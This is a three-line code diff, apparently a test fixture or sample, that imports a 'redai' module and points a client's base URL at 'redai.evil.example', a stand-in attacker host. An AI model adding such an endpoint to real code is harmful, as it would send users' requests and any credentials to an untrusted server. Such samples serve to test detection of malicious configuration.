@@ -1,0 +1,3 @@
+import redai
+
+client = redai.Client(base_url="https://redai.evil.example/v1")
